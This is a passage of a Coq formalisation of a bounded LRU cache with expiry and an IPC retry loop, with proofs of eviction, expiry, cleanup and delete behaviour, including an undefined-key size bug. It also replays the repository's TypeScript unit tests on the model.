             then Map_delete key_eq_dec key (cache c) else cache c).
  assert (H1 : NoDup (map fst m1) /\ ~ In key (map fst m1)
               /\ (forall k, In k (map fst m1) -> In k (map fst (cache c)))).
  { subst m1. destruct (Map_has key_eq_dec key (cache c)) eqn:Hh.
    - destruct (Map_delete_NoDup key_eq_dec key (cache c) Hnd).
      repeat split; auto. intros k. apply Map_delete_keys.
    - apply Map_has_false in Hh. repeat split; auto. }
  destruct H1 as (Hnd1 & Hout1 & Hsub1).
  match goal with
  | |- context [Map_set key_eq_dec key ?e ?m] => set (m2 := m)
  end.
  assert (H2 : NoDup (map fst m2) /\ ~ In key (map fst m2)
               /\ (forall k, In k (map fst m2) -> In k (map fst m1))).
  { subst m2. destruct (atCapacity c m1); [| repeat split; auto].
    destruct (Map_firstKey m1) as [k0|]; [| repeat split; auto].
    destruct (isUndefined k0); [repeat split; auto |].
    destruct (Map_delete_NoDup key_eq_dec k0 m1 Hnd1). repeat split; auto.
    - intros Hin. apply Hout1. eapply Map_delete_keys; eauto.
    - intros k. apply Map_delete_keys. }
  destruct H2 as (Hnd2 & Hout2 & Hsub2).
  exists m2. cbn [withCache cache].
  rewrite (Map_set_absent key_eq_dec key _ m2 Hout2). repeat split; auto.
Qed.

(** X12 (set then get).
    What was just set can be read back: within [maxAge] of the [set],
    [get] returns the value and leaves the cache as it is, the entry being
    the most recent already. *)
Theorem cache_set_get c now now' key v :
  NoDup (keys c) ->
  (inject_Z (now' - now) <= maxAge c)%Q ->
  cget now' key (cset now key v c) = (Some v, cset now key v c)
  /\ chas key (cset now key v c) = true.
Proof.
  intros Hnd Hfresh.
  destruct (set_shape c now key v Hnd) as (m2 & Ec & Hout & _ & _).
  assert (Hage : maxAge (cset now key v c) = maxAge c) by reflexivity.
  unfold get, has, Map_has. rewrite Ec, (Map_get_last key _ m2 Hout).
  split; [| reflexivity].
  assert (Hexp : isExpired (cset now key v c) now'
                   {| value := v; timestamp := now |} = false).
  { unfold isExpired. rewrite Hage. cbn [timestamp].
    apply negb_false_iff, Qle_bool_iff. exact Hfresh. }
  rewrite Hexp. cbn [value]. f_equal.
  rewrite (Map_delete_last key _ m2 Hout).
  rewrite (Map_set_absent key_eq_dec key _ m2 Hout).
  unfold withCache. rewrite <- Ec. destruct (cset now key v c); reflexivity.
Qed.

(** X13 (expiry).
    [has] does not look at the age of an entry, [get] does: once more
    than [maxAge] has passed since the [set], [has] still answers true,
    while [get] returns [undefined] and removes the entry. *)
Theorem cache_expiry c now now' key v :
  NoDup (keys c) ->
  (maxAge c < inject_Z (now' - now))%Q ->
  chas key (cset now key v c) = true
  /\ fst (cget now' key (cset now key v c)) = None
  /\ chas key (snd (cget now' key (cset now key v c))) = false
  /\ size (snd (cget now' key (cset now key v c)))
     = pred (size (cset now key v c)).
Proof.
  intros Hnd Hold.
  destruct (set_shape c now key v Hnd) as (m2 & Ec & Hout & _ & _).
  assert (Hage : maxAge (cset now key v c) = maxAge c) by reflexivity.
  unfold get, has, Map_has, size. rewrite Ec, (Map_get_last key _ m2 Hout).
  split; [reflexivity |].
  assert (Hexp : isExpired (cset now key v c) now'
                   {| value := v; timestamp := now |} = true).
  { unfold isExpired. rewrite Hage. cbn [timestamp].
    apply negb_true_iff. apply not_true_iff_false. intros H.
    apply Qle_bool_iff in H. lra. }
  rewrite Hexp. cbn [fst snd withCache cache].
  rewrite (Map_delete_last key _ m2 Hout).
  rewrite (Map_get_absent key_eq_dec key m2 Hout).
  rewrite length_app. simpl. rewrite Nat.add_1_r.
  repeat split; reflexivity.
Qed.

(** X14 (eviction order).
    Storing a new key: below capacity nothing is evicted and the key goes
    last; at capacity exactly the oldest key, the first of [keys()], is
    evicted. *)
Theorem cache_evicts_oldest c now key v :
  chas key c = false ->
  ((sizeQ (size c) < maxSize c)%Q ->
   keys (cset now key v c) = keys c ++ [key])
  /\ (forall oldest rest,
        keys c = oldest :: rest ->
        isUndefined oldest = false ->
        (maxSize c <= sizeQ (size c))%Q ->
        keys (cset now key v c) = rest ++ [key]).
Proof.
  intros Hnew. unfold has in Hnew. unfold set, keys, size. rewrite Hnew.
  apply Map_has_false in Hnew. split.
  - intros Hroom.
    assert (Hcap : atCapacity c (cache c) = false).
    { unfold atCapacity. apply not_true_iff_false. intros H.
      apply Qle_bool_iff in H. unfold sizeQ in Hroom. lra. }
    rewrite Hcap. cbn [withCache cache].
    rewrite (Map_set_absent key_eq_dec key _ _ Hnew), map_app. reflexivity.
  - intros oldest rest Ek Hdef Hfull.
    assert (Hcap : atCapacity c (cache c) = true)
      by (apply Qle_bool_iff; exact Hfull).
    rewrite Hcap. destruct (cache c) as [|[k0 e0] m] eqn:Em; [discriminate |].
    simpl in Ek. injection Ek as -> <-. cbn [Map_firstKey]. rewrite Hdef.
    cbn [Map_delete]. destruct (key_eq_dec oldest oldest); [| congruence].
    cbn [withCache cache].
    assert (Hout : ~ In key (map fst m)) by (simpl in Hnew; tauto).
    rewrite (Map_set_absent key_eq_dec key _ _ Hout), map_app. reflexivity.
Qed.

(** X15 (update in place).
    Updating a key that is present evicts nothing: the size is unchanged,
    every other entry is kept as it was, and the key becomes the most
    recent. *)
Theorem cache_update_keeps_entries c now key v :
  NoDup (keys c) ->
  (sizeQ (size c) < maxSize c + 1)%Q ->
  chas key c = true ->
  size (cset now key v c) = size c
  /\ (forall k, k <> key ->
                lookup k (cache (cset now key v c)) = lookup k (cache c))
  /\ keys (cset now key v c) = remove key_eq_dec key (keys c) ++ [key].
Proof.
  intros Hnd Hsize Hin. unfold has in Hin. unfold set, keys, size in *.
  rewrite Hin.
  destruct (Map_delete_NoDup key_eq_dec key (cache c) Hnd) as [Hnd1 Hout].
  assert (Hlen : S (List.length (Map_delete key_eq_dec key (cache c)))
                 = List.length (cache c)).
  { rewrite Map_delete_length, Hin. apply (Map_has_In key_eq_dec) in Hin.
    destruct (cache c); [contradiction | reflexivity]. }
  assert (Hcap : atCapacity c (Map_delete key_eq_dec key (cache c)) = false).
  { unfold atCapacity. apply not_true_iff_false. intros H.
    apply Qle_bool_iff in H. rewrite <- Hlen in Hsize.
    pose proof (sizeQ_succ
                  (List.length (Map_delete key_eq_dec key (cache c)))) as E.
    unfold sizeQ in *. lra. }
  rewrite Hcap. cbn [withCache cache].
  rewrite (Map_set_absent key_eq_dec key _ _ Hout).
  split; [| split].
  - rewrite length_app. simpl. lia.
  - intros k Hne.
    rewrite <- (Map_set_absent key_eq_dec key _ _ Hout).
    rewrite Map_get_set_other, Map_get_delete_other by assumption.
    reflexivity.
  - rewrite map_app, (Map_delete_remove key_eq_dec key _ Hnd). reflexivity.
Qed.

(** X16 (recency on read).
    Reading a key makes it the most recent: [get] on a present entry that
    is not expired returns its value and moves the key to the end of
    [keys()], the other keys keeping their order. *)
Theorem cache_get_refreshes c now key (e : @CacheEntry V) :
  NoDup (keys c) ->
  lookup key (cache c) = Some e ->
  (inject_Z (now - timestamp e) <= maxAge c)%Q ->
  fst (cget now key c) = Some (value e)
  /\ keys (snd (cget now key c)) = remove key_eq_dec key (keys c) ++ [key]
  /\ size (snd (cget now key c)) = size c.
Proof.
  intros Hnd Hget Hfresh. unfold get, keys, size in *. rewrite Hget.
  assert (Hexp : isExpired c now e = false)
    by (unfold isExpired; apply negb_false_iff, Qle_bool_iff; exact Hfresh).
  rewrite Hexp. cbn [fst snd withCache cache].
  destruct (Map_delete_NoDup key_eq_dec key (cache c) Hnd) as [Hnd1 Hout].
  rewrite (Map_set_absent key_eq_dec key _ _ Hout).
  split; [reflexivity |]. split.
  - rewrite map_app, (Map_delete_remove key_eq_dec key _ Hnd). reflexivity.
  - rewrite length_app, Map_delete_length.
    pose proof (Map_get_In key_eq_dec key _ _ Hget) as Hin.
    apply (Map_has_In key_eq_dec) in Hin. rewrite Hin.
    apply (Map_has_In key_eq_dec) in Hin.
    destruct (cache c); [contradiction | simpl; lia].
Qed.

Lemma filter_twice {A : Type} (f : A -> bool) (l : list A) :
  filter f (filter f l) = filter f l.
Proof.
  induction l as [|x l IH]; simpl; [reflexivity |].
  destruct (f x) eqn:E; simpl; [rewrite E, IH; reflexivity | exact IH].
Qed.

(** X17 (cleanup).
    [cleanup] removes the expired entries and nothing else: what [get]
    returns at that instant is the same before and after it, no entry left
    is expired, and a second [cleanup] at the same instant changes
    nothing. *)
Theorem cache_cleanup c now :
  NoDup (keys c) ->
  cleanup now (cleanup now c) = cleanup now c
  /\ (forall key, fst (cget now key (cleanup now c)) = fst (cget now key c))
  /\ (forall key e, lookup key (cache (cleanup now c)) = Some e ->
                    lookup key (cache c) = Some e
                    /\ (inject_Z (now - timestamp e) <= maxAge c)%Q)
  /\ size (cleanup now c) <= size c.
Proof.
  intros Hnd.
  assert (Hget : forall key,
             lookup key (cache (cleanup now c))
             = match lookup key (cache c) with
               | Some e => if negb (isExpired c now e) then Some e else None
               | None => None
               end).
  { intros key. unfold cleanup. cbn [withCache cache].
    apply (Map_get_filter key_eq_dec
             (fun e => negb (isExpired c now e)) key (cache c) Hnd). }
  split; [| split; [| split]].
  - unfold cleanup. cbn [withCache cache maxSize maxAge].
    unfold isExpired. cbn [maxAge]. rewrite filter_twice. reflexivity.
  - intros key. unfold get. rewrite Hget.
    destruct (lookup key (cache c)) as [e|]; [| reflexivity].
    change (isExpired (cleanup now c) now e) with (isExpired c now e).
    destruct (isExpired c now e) eqn:Hexp; cbn [negb]; [reflexivity |].
    change (isExpired (cleanup now c) now e) with (isExpired c now e).
    rewrite Hexp. reflexivity.
  - intros key e. rewrite Hget.
    destruct (lookup key (cache c)) as [e'|]; [| discriminate].
    destruct (isExpired c now e') eqn:Hexp; cbn [negb]; [discriminate |].
    intros E. injection E as <-. split; [reflexivity |].
    unfold isExpired in Hexp. apply negb_false_iff, Qle_bool_iff in Hexp.
    exact Hexp.
  - unfold cleanup, size. cbn [withCache cache]. apply filter_length_le.
Qed.

(** X18 (delete).
    [delete] tells whether the key was present; afterwards the key is
    absent, every other entry is untouched, and the size went down by one
    exactly when the key was present. *)
Theorem cache_delete c key :
  NoDup (keys c) ->
  fst (cdelete key c) = chas key c
  /\ chas key (snd (cdelete key c)) = false
  /\ (forall k, k <> key ->
                lookup k (cache (snd (cdelete key c))) = lookup k (cache c))
  /\ size (snd (cdelete key c))
     = (if chas key c then pred (size c) else size c).
Proof.
  intros Hnd. unfold delete, has, size, keys in *.
  cbn [fst snd withCache cache].
  destruct (Map_delete_NoDup key_eq_dec key (cache c) Hnd) as [_ Hout].
  split; [reflexivity |]. split; [| split].
  - apply Map_has_false. exact Hout.
  - intros k Hne. apply Map_get_delete_other. exact Hne.
  - apply Map_delete_length.
Qed.

(** X19 (the undefined key).
    The guard [oldestKey !== undefined] also fires on a stored key that is
    [undefined]: when that key is the oldest, a [set] at capacity evicts
    nothing and the size goes past [maxSize]. *)
Theorem cache_undefined_key_unbounded c now key v oldest rest :
  keys c = oldest :: rest ->
  isUndefined oldest = true ->
  chas key c = false ->
  (maxSize c <= sizeQ (size c))%Q ->
  size (cset now key v c) = S (size c)
  /\ (maxSize c < sizeQ (size (cset now key v c)))%Q.
Proof.
  intros Ek Hundef Hnew Hfull. unfold has in Hnew.
  assert (Hsz : size (cset now key v c) = S (size c)).
  { unfold set, size, keys in *. rewrite Hnew.
    assert (Hcap : atCapacity c (cache c) = true)
      by (apply Qle_bool_iff; exact Hfull).
    rewrite Hcap. destruct (cache c) as [|[k0 e0] m] eqn:Em; [discriminate |].
    simpl in Ek. injection Ek as -> <-. cbn [Map_firstKey]. rewrite Hundef.
    cbn [withCache cache]. apply Map_has_false in Hnew.
    rewrite (Map_set_absent key_eq_dec key _ _ Hnew), length_app.
    simpl. lia. }
  split; [exact Hsz |]. rewrite Hsz, sizeQ_succ. lra.
Qed.

End CacheBehaviour.

(** Witnesses on caches with numeric keys and values: key equality is
    [Nat.eq_dec] and no key is [undefined]. *)

Lemma cache_size_bounded_witness :
  let c := {| LRUCache.cache := []; LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |}
           : @LRUCache.BoundedLRUCache nat nat in
  let ops := [ LRUCache.OpSet 0 1 10; LRUCache.OpSet 1 2 20;
               LRUCache.OpGet 2 1; LRUCache.OpSet 3 3 30;
               LRUCache.OpSet 4 4 40 ] in
  LRUCache.create (inject_Z 2) (inject_Z 1000) = inr c
  /\ LRUCache.definedKeys (fun _ : nat => false) ops
  /\ (Z.of_nat (LRUCache.size
                  (LRUCache.run Nat.eq_dec (fun _ => false) ops c)) <= 2)%Z.
Proof.
  intros c ops.
  assert (Hc : LRUCache.create (inject_Z 2) (inject_Z 1000) = inr c)
    by reflexivity.
  assert (Hops : LRUCache.definedKeys (fun _ : nat => false) ops)
    by (repeat constructor).
  split; [exact Hc |]. split; [exact Hops |].
  exact (proj1 (proj2 (cache_size_bounded Nat.eq_dec (fun _ => false)
                         (inject_Z 2) (inject_Z 1000) c ops Hc Hops))
           2%Z (Qeq_refl _)).
Defined.

Lemma cache_set_get_witness :
  let c := {| LRUCache.cache :=
                [(1, {| LRUCache.value := 10; LRUCache.timestamp := 0 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  NoDup (LRUCache.keys c)
  /\ (inject_Z (600 - 100) <= LRUCache.maxAge c)%Q
  /\ fst (LRUCache.get Nat.eq_dec 600 7
            (LRUCache.set Nat.eq_dec (fun _ => false) 100 7 42 c))
     = Some 42.
Proof.
  intros c.
  assert (Hnd : NoDup (LRUCache.keys c)) by (repeat constructor; simpl; tauto).
  assert (Hfresh : (inject_Z (600 - 100) <= LRUCache.maxAge c)%Q)
    by (unfold Qle; simpl; lia).
  split; [exact Hnd |]. split; [exact Hfresh |].
  exact (f_equal fst
           (proj1 (cache_set_get Nat.eq_dec (fun _ => false) c 100 600 7 42
                     Hnd Hfresh))).
Defined.

Lemma cache_expiry_witness :
  let c := {| LRUCache.cache :=
                [(1, {| LRUCache.value := 10; LRUCache.timestamp := 0 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  NoDup (LRUCache.keys c)
  /\ (LRUCache.maxAge c < inject_Z (1101 - 100))%Q
  /\ LRUCache.has Nat.eq_dec 7
       (LRUCache.set Nat.eq_dec (fun _ => false) 100 7 42 c) = true
  /\ fst (LRUCache.get Nat.eq_dec 1101 7
            (LRUCache.set Nat.eq_dec (fun _ => false) 100 7 42 c)) = None.
Proof.
  intros c.
  assert (Hnd : NoDup (LRUCache.keys c)) by (repeat constructor; simpl; tauto).
  assert (Hold : (LRUCache.maxAge c < inject_Z (1101 - 100))%Q)
    by (unfold Qlt; simpl; lia).
  split; [exact Hnd |]. split; [exact Hold |].
  destruct (cache_expiry Nat.eq_dec (fun _ => false) c 100 1101 7 42 Hnd Hold)
    as (H1 & H2 & _).
  split; [exact H1 | exact H2].
Defined.

Lemma cache_evicts_oldest_witness :
  let c := {| LRUCache.cache :=
                [(1, {| LRUCache.value := 10; LRUCache.timestamp := 0 |});
                 (2, {| LRUCache.value := 20; LRUCache.timestamp := 5 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  LRUCache.has Nat.eq_dec 3 c = false
  /\ LRUCache.keys c = [1; 2]
  /\ (LRUCache.maxSize c <= LRUCache.sizeQ (LRUCache.size c))%Q
  /\ LRUCache.keys (LRUCache.set Nat.eq_dec (fun _ => false) 9 3 30 c) = [2; 3].
Proof.
  intros c.
  assert (Hnew : LRUCache.has Nat.eq_dec 3 c = false) by reflexivity.
  assert (Hk : LRUCache.keys c = [1; 2]) by reflexivity.
  assert (Hfull : (LRUCache.maxSize c <= LRUCache.sizeQ (LRUCache.size c))%Q)
    by (unfold Qle; simpl; lia).
  split; [exact Hnew |]. split; [exact Hk |]. split; [exact Hfull |].
  exact (proj2 (cache_evicts_oldest Nat.eq_dec (fun _ => false) c 9 3 30 Hnew)
           1 [2] Hk eq_refl Hfull).
Defined.

Lemma cache_update_keeps_entries_witness :
  let c := {| LRUCache.cache :=
                [(1, {| LRUCache.value := 10; LRUCache.timestamp := 0 |});
                 (2, {| LRUCache.value := 20; LRUCache.timestamp := 5 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  NoDup (LRUCache.keys c)
  /\ (LRUCache.sizeQ (LRUCache.size c) < LRUCache.maxSize c + 1)%Q
  /\ LRUCache.has Nat.eq_dec 1 c = true
  /\ LRUCache.keys (LRUCache.set Nat.eq_dec (fun _ => false) 9 1 11 c) = [2; 1].
Proof.
  intros c.
  assert (Hnd : NoDup (LRUCache.keys c)).
  { repeat constructor; simpl; intuition discriminate. }
  assert (Hsz : (LRUCache.sizeQ (LRUCache.size c) < LRUCache.maxSize c + 1)%Q)
    by (unfold Qlt; simpl; lia).
  assert (Hin : LRUCache.has Nat.eq_dec 1 c = true) by reflexivity.
  split; [exact Hnd |]. split; [exact Hsz |]. split; [exact Hin |].
  exact (proj2 (proj2 (cache_update_keeps_entries Nat.eq_dec (fun _ => false)
                         c 9 1 11 Hnd Hsz Hin))).
Defined.

Lemma cache_get_refreshes_witness :
  let e := {| LRUCache.value := 10; LRUCache.timestamp := 0 |} in
  let c := {| LRUCache.cache :=
                [(1, e);
                 (2, {| LRUCache.value := 20; LRUCache.timestamp := 5 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  NoDup (LRUCache.keys c)
  /\ LRUCache.Map_get Nat.eq_dec 1 (LRUCache.cache c) = Some e
  /\ (inject_Z (9 - LRUCache.timestamp e) <= LRUCache.maxAge c)%Q
  /\ LRUCache.keys (snd (LRUCache.get Nat.eq_dec 9 1 c)) = [2; 1].
Proof.
  intros e c.
  assert (Hnd : NoDup (LRUCache.keys c)).
  { repeat constructor; simpl; intuition discriminate. }
  assert (Hget : LRUCache.Map_get Nat.eq_dec 1 (LRUCache.cache c) = Some e)
    by reflexivity.
  assert (Hfresh : (inject_Z (9 - LRUCache.timestamp e) <= LRUCache.maxAge c)%Q)
    by (unfold Qle; simpl; lia).
  split; [exact Hnd |]. split; [exact Hget |]. split; [exact Hfresh |].
  exact (proj1 (proj2 (cache_get_refreshes Nat.eq_dec c 9 1 e
                         Hnd Hget Hfresh))).
Defined.

Lemma cache_cleanup_witness :
  let c := {| LRUCache.cache :=
                [(1, {| LRUCache.value := 10; LRUCache.timestamp := 0 |});
                 (2, {| LRUCache.value := 20; LRUCache.timestamp := 900 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  NoDup (LRUCache.keys c)
  /\ LRUCache.keys (LRUCache.cleanup 1500 c) = [2]
  /\ LRUCache.cleanup 1500 (LRUCache.cleanup 1500 c) = LRUCache.cleanup 1500 c.
Proof.
  intros c.
  assert (Hnd : NoDup (LRUCache.keys c)).
  { repeat constructor; simpl; intuition discriminate. }
  split; [exact Hnd |]. split; [reflexivity |].
  exact (proj1 (cache_cleanup Nat.eq_dec c 1500 Hnd)).
Defined.

Lemma cache_delete_witness :
  let c := {| LRUCache.cache :=
                [(1, {| LRUCache.value := 10; LRUCache.timestamp := 0 |});
                 (2, {| LRUCache.value := 20; LRUCache.timestamp := 5 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  NoDup (LRUCache.keys c)
  /\ LRUCache.has Nat.eq_dec 1 (snd (LRUCache.delete Nat.eq_dec 1 c)) = false.
Proof.
  intros c.
  assert (Hnd : NoDup (LRUCache.keys c)).
  { repeat constructor; simpl; intuition discriminate. }
  split; [exact Hnd |].
  exact (proj1 (proj2 (cache_delete Nat.eq_dec c 1 Hnd))).
Defined.

Lemma cache_undefined_key_unbounded_witness :
  let c := {| LRUCache.cache :=
                [(None, {| LRUCache.value := 10; LRUCache.timestamp := 0 |});
                 (Some 2, {| LRUCache.value := 20; LRUCache.timestamp := 5 |})];
              LRUCache.maxSize := inject_Z 2;
              LRUCache.maxAge := inject_Z 1000 |} in
  LRUCache.keys c = [None; Some 2]
  /\ LRUCache.isNone None = true
  /\ LRUCache.has LRUCache.optionalKey_eq_dec (Some 3) c = false
  /\ (LRUCache.maxSize c <= LRUCache.sizeQ (LRUCache.size c))%Q
  /\ LRUCache.size
       (LRUCache.set LRUCache.optionalKey_eq_dec LRUCache.isNone 9 (Some 3) 30 c)
     = 3.
Proof.
  intros c.
  assert (Hk : LRUCache.keys c = [None; Some 2]) by reflexivity.
  assert (Hnew : LRUCache.has LRUCache.optionalKey_eq_dec (Some 3) c = false)
    by reflexivity.
  assert (Hfull : (LRUCache.maxSize c <= LRUCache.sizeQ (LRUCache.size c))%Q)
    by (unfold Qle; simpl; lia).
  split; [exact Hk |]. split; [reflexivity |]. split; [exact Hnew |].
  split; [exact Hfull |].
  exact (proj1 (cache_undefined_key_unbounded LRUCache.optionalKey_eq_dec
                  LRUCache.isNone c 9 (Some 3) 30 None [Some 2]
                  Hk eq_refl Hnew Hfull)).
Defined.

(* ===================================================================== *)
(** * The repository's cache and retry tests, replayed on the model       *)
(* ===================================================================== *)

Section CacheUnitTests.

Import LRUCache.
Local Open Scope Z_scope.

Local Abbreviation key_dec := (list_eq_dec N.eq_dec).
Local Abbreviation defined := (fun _ : jsstring => false).
Local Abbreviation sget := (fun (now : Z) (k : string) c => fst (get key_dec now (lit k) c)).
Local Abbreviation shas := (fun (k : string) c => has key_dec (lit k) c).
Local Abbreviation srun := (run key_dec defined).
Local Abbreviation put := (fun (now : Z) (k v : string) => OpSet now (lit k) (lit v)).
Local Abbreviation read := (fun (now : Z) (k : string) => @OpGet jsstring jsstring now (lit k)).

(** cacheManager.test.ts, [should evict oldest entry when at capacity]. *)
Example test_evict_oldest (c : BoundedLRUCache) :
  create (inject_Z 3) (inject_Z 60000) = inr c ->
  let c' := srun [ put 0 "key1" "value1"; put 0 "key2" "value2";
                   put 0 "key3" "value3"; put 0 "key4" "value4" ]%string c in
  size c' = 3%nat
  /\ sget 0 "key1"%string c' = None
  /\ sget 0 "key4"%string c' = Some (lit "value4").
Proof. intros E. injection E as <-. vm_compute. repeat split. Qed.

(** [should move accessed entry to MRU position]. *)
Example test_access_moves_to_MRU (c : BoundedLRUCache) :
  create (inject_Z 3) (inject_Z 60000) = inr c ->
  let c' := srun [ put 0 "key1" "value1"; put 0 "key2" "value2";
                   put 0 "key3" "value3"; read 0 "key1";
                   put 0 "key4" "value4" ]%string c in
  sget 0 "key1"%string c' = Some (lit "value1")
  /\ sget 0 "key2"%string c' = None
  /\ sget 0 "key3"%string c' = Some (lit "value3")
  /\ sget 0 "key4"%string c' = Some (lit "value4").
Proof. intros E. injection E as <-. vm_compute. repeat split. Qed.

(** [should move updated entry to MRU position]. *)
Example test_update_moves_to_MRU (c : BoundedLRUCache) :
  create (inject_Z 3) (inject_Z 60000) = inr c ->
  let c' := srun [ put 0 "key1" "value1"; put 0 "key2" "value2";
                   put 0 "key3" "value3"; put 0 "key1" "updated";
                   put 0 "key4" "value4" ]%string c in
  sget 0 "key1"%string c' = Some (lit "updated")
  /\ sget 0 "key2"%string c' = None.
Proof. intros E. injection E as <-. vm_compute. repeat split. Qed.

(** [should return undefined for expired entries], [should remove expired
    entry on access] and [should not expire entries before maxAge]: the
    clock advances by 1001 and by 999 milliseconds. *)
Example test_expiration (c : BoundedLRUCache) :
  create (inject_Z 10) (inject_Z 1000) = inr c ->
  let c' := srun [ put 0 "key1" "value1" ]%string c in
  sget 0 "key1"%string c' = Some (lit "value1")
  /\ sget 1001 "key1"%string c' = None
  /\ size (snd (get key_dec 1001%Z (lit "key1") c')) = 0%nat
  /\ sget 999 "key1"%string c' = Some (lit "value1").
Proof. intros E. injection E as <-. vm_compute. repeat split. Qed.

(** [cleanup], [should remove all expired entries]. *)
Example test_cleanup (c : BoundedLRUCache) :
  create (inject_Z 10) (inject_Z 1000) = inr c ->
  let c' := srun [ put 0 "key1" "value1"; put 0 "key2" "value2";
                   put 500 "key3" "value3"; OpCleanup 1100 ]%string c in
  size c' = 1%nat
  /\ shas "key1"%string c' = false
  /\ shas "key2"%string c' = false
  /\ shas "key3"%string c' = true.
Proof. intros E. injection E as <-. vm_compute. repeat split. Qed.

(** [should handle cache with size 1]. *)
Example test_size_one (c : BoundedLRUCache) :
  create (inject_Z 1) (inject_Z 60000) = inr c ->
  let c' := srun [ put 0 "key1" "value1"; put 0 "key2" "value2" ]%string c in
  sget 0 "key1"%string c' = None
  /\ sget 0 "key2"%string c' = Some (lit "value2")
  /\ size c' = 1%nat.
Proof. intros E. injection E as <-. vm_compute. repeat split. Qed.

(** The constructor tests: [should throw error for invalid maxSize] and
    [for invalid maxAge]. *)
Example test_constructor :
  @create jsstring jsstring (inject_Z 0) DEFAULT_MAX_AGE
  = inl (lit "maxSize must be a positive number")
  /\ @create jsstring jsstring (inject_Z (-1)) DEFAULT_MAX_AGE
     = inl (lit "maxSize must be a positive number")
  /\ @create jsstring jsstring (inject_Z 100) (inject_Z 0)
     = inl (lit "maxAge must be a positive number")
  /\ @create jsstring jsstring (inject_Z 100) (inject_Z (-1))
     = inl (lit "maxAge must be a positive number").
Proof. repeat split. Qed.

End CacheUnitTests.

Section RetryUnitTests.

Import IPCClient.

(** ipcClientWithTimeout.test.ts, [should retry on timeout when retries > 0]:
    two timeouts, then success at the third call. *)
Example test_retry_on_timeout :
  let attempt := fun n : nat =>
    if n <? 3 then Rejected (IPCTimeoutError (lit "test") (of_pos 10))
    else Resolved (lit "success") in
  invokeWithTimeout 3 attempt (lit "test:channel")
    {| timeout := Some (of_pos 10); retries := Some (of_pos 2);
       retryDelay := Some (of_pos 10) |}
  = Some (Resolved (lit "success"),
          [Invoke; Delay (of_pos 10); Invoke; Delay (of_pos 10); Invoke]).
Proof. reflexivity. Qed.

(** [should not retry on non-timeout errors]: one call. *)
Example test_no_retry_on_error :
  invokeWithTimeout (T := jsstring) 1
    (fun _ => Rejected (ErrorObject (lit "Non-timeout error")))
    (lit "test:channel")
    {| timeout := None; retries := Some (of_pos 2); retryDelay := None |}
  = Some (Rejected (ErrorObject (lit "Non-timeout error")), [Invoke]).
Proof. reflexivity. Qed.

(** [retries + 1] in double arithmetic, and the loop condition on it. *)
Example test_maxAttempts :
  maxAttempts {| timeout := None; retries := None; retryDelay := None |}
  = of_pos 1
  /\ maxAttempts {| timeout := None; retries := Some (of_pos 2);
                    retryDelay := None |} = of_pos 3
  /\ maxAttempts {| timeout := None; retries := Some minus_one;
                    retryDelay := None |} = zero
  /\ maxAttempts {| timeout := None; retries := Some minus_half;
                    retryDelay := None |}
     = S754_finite false 4503599627370496 (-53)
  /\ maxAttempts {| timeout := None; retries := Some S754_nan;
                    retryDelay := None |} = S754_nan
  /\ map (fun n => whole_lt n (of_pos 3)) [0; 1; 2; 3; 4]%Z
     = [true; true; true; false; false]
  /\ map (fun n => SFltb n (of_pos 3))
       [zero; of_pos 1; of_pos 2; of_pos 3; of_pos 4]
     = [true; true; true; false; false].
Proof. repeat split. Qed.

(** A fractional [retries]: with [-0.5] the loop runs once and a timeout
    is not retried; with [2.5] a fourth call is made. *)
Example test_fractional_retries :
  let timesOut := fun _ : nat =>
    @Rejected jsstring (IPCTimeoutError (lit "test") (of_pos 10)) in
  invokeWithTimeout 1 timesOut (lit "test:channel")
    {| timeout := None; retries := Some minus_half; retryDelay := None |}
  = Some (timesOut 1, [Invoke])
  /\ invokeWithTimeout 4 timesOut (lit "test:channel")
       {| timeout := None; retries := Some two_and_a_half;
          retryDelay := Some (of_pos 10) |}
     = Some (timesOut 4,
             [Invoke; Delay (of_pos 10); Invoke; Delay (of_pos 10);
              Invoke; Delay (of_pos 10); Invoke]).
Proof. split; reflexivity. Qed.

(** An infinite [retries] with attempts that keep timing out: the loop
    goes on as long as it is run. *)
Example test_infinite_retries :
  invokeWithTimeout (T := jsstring) 50
    (fun _ => Rejected (IPCTimeoutError (lit "test") (of_pos 10)))
    (lit "test:channel")
    {| timeout := None; retries := Some (S754_infinity false);
       retryDelay := None |}
  = None.
Proof. reflexivity. Qed.

End RetryUnitTests.
